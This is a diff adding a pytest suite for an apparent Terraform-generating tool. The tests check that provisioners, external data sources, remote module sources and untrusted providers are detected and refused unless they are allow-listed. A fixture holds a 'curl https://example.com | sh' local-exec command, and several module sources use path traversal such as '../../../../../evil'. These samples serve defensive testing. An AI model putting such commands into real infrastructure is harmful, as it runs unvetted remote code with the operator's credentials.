@@ -1,0 +1,130 @@
+"""What would run with the keys of whoever plans is refused, wherever in a checkout it is written."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+from tests.engine.small import small_project
+
+from infragen.render.programs import programs
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+    from tests.conftest import Outcome
+
+    Infragen = Callable[..., Outcome]
+
+SEED = """\
+resource "terraform_data" "seed" {
+  input = 1
+
+  provisioner "local-exec" {
+    command = "curl https://example.com | sh"
+  }
+}
+"""
+
+
+HARMLESS = """\
+module "m" {
+  source = "../modules/vpc"
+}
+
+terraform {
+  required_providers {
+    aws = { source = "hashicorp/aws" }
+  }
+}
+
+resource "terraform_data" "x" {
+  input = "external"
+}
+"""
+
+
+@pytest.mark.parametrize(
+    ("text", "name", "line"),
+    [
+        (SEED, "network/terraform_data.seed", 4),
+        ('resource "null_resource" "a" {\n  provisioner "remote-exec" {}\n}', "network/null_resource.a", 2),
+        ('resource "aws_instance" "a" {\n  provisioner "file" {}\n}', "network/aws_instance.a", 2),
+        ("resource aws_instance a {\n  provisioner file {}\n}", "network/aws_instance.a", 2),
+        ('resource "a" "b" {\n  provisioner /* x */ "local-exec" {}\n}', "network/main.tf", 1),
+        ('\ndata "external" "tools" {\n}', "network/data.external.tools", 2),
+        ("data external tools {\n}", "network/data.external.tools", 1),
+        ('data   "external"   "tools" {\n}', "network/data.external.tools", 1),
+        ('data "extern\\u0061l" "tools" {\n}', "network/data.external.tools", 1),
+        ('data /* x\n*/ "external" "tools" {\n}', "network/main.tf", 1),
+        ('check "a" {\n  data "external" "tools" {\n  }\n}', "network/data.external.tools", 2),
+        ('data "http" "x" {\n}', "network/data.http.x", 1),
+        ('resource "local_file" "x" {\n}', "network/local_file.x", 1),
+        ('action "local_command" "x" {\n}', "network/action.local_command.x", 1),
+        ('module "m" {\n  source = "git::https://example.com/m"\n}', "network/module.m", 1),
+        ('module "m" {\n  source = "../../../../../evil"\n}', "network/module.m", 1),
+        ('module "m" { source = "./evil" }', "network/module.m", 1),
+        (
+            'terraform {\n  required_providers {\n    shell = { source = "evil/shell", version = "1" }\n  }\n}',
+            "network/evil/shell",
+            1,
+        ),
+        ("x {{{", None, None),
+        ('provisioner "x" {{{', "network/main.tf", 1),
+        (HARMLESS, None, None),
+    ],
+)
+def test_what_runs_is_found_however_it_is_written(text: str, name: str | None, line: int | None) -> None:
+    found = [(one.name, one.line) for one in programs([("network/main.tf", text)])]
+    assert found == ([] if name is None else [(name, line)])
+
+
+def test_json_is_not_read_and_so_not_trusted() -> None:
+    assert [one.name for one in programs([("network/x.tf.json", "{}")])] == ["network/x.tf.json"]
+
+
+def test_a_hand_written_program_is_refused_at_its_line(infragen: Infragen, tmp_path: Path) -> None:
+    project = small_project(tmp_path)
+    extra = project / "catalog/small/extra/network/seed.tf"
+    extra.parent.mkdir(parents=True)
+    extra.write_text(SEED)
+    for command in (("validate",), ("render",), ("render", "--check"), ("plan", "small/dev", "--offline")):
+        outcome = infragen(*command, "-C", project)
+        assert outcome.code == 1
+        said = outcome.err + outcome.out
+        assert (
+            "catalog/small/extra/network/seed.tf:4:3: error G015 terraform_data.seed runs a program (local-exec)"
+            in said
+        )
+        assert '`allow = ["small/network/terraform_data.seed"]`' in said
+    (project / "infragen.toml").write_text('[programs]\nallow = ["small/network/terraform_data.other"]\n')
+    assert infragen("validate", "-C", project).code == 1
+    (project / "infragen.toml").write_text('[programs]\nallow = ["small/network/terraform_data.seed"]\n')
+    assert infragen("validate", "-C", project).code == 0
+    assert infragen("render", "-C", project).code == 0
+    assert (project / "generated/small/dev/network/extra_seed.tf").is_file()
+
+
+def test_a_template_of_the_project_runs_nothing_either(infragen: Infragen, tmp_path: Path) -> None:
+    project = small_project(tmp_path)
+    template = project / "templates/stacks/network/main.tf"
+    before = len(template.read_text().splitlines())
+    template.write_text(f"{template.read_text()}\n# {{% if vpc %}}\n{SEED}# {{% endif %}}\n")
+    outcome = infragen("render", "-C", project)
+    assert outcome.code == 1
+    assert f"templates/stacks/network/main.tf:{before + 6}:3: error G015 terraform_data.seed" in outcome.err
+
+
+def test_a_file_that_lies_in_a_stacks_folder_runs_nothing_either(infragen: Infragen, tmp_path: Path) -> None:
+    project = small_project(tmp_path)
+    assert infragen("render", "-C", project).code == 0
+    file = project / "generated/small/dev/network/by_hand.tf"
+    for text, name in ((SEED, "by_hand.tf:4:3"), ("{}", "by_hand.tf.json:1:1")):
+        file = project / f"generated/small/dev/network/{name.partition(':')[0]}"
+        file.write_text(text)
+        outcome = infragen("plan", "small/dev", "--offline", "-C", project)
+        assert (outcome.code, f"generated/small/dev/network/{name}: error G015" in outcome.err) == (1, True), (
+            outcome.err
+        )
+        file.unlink()
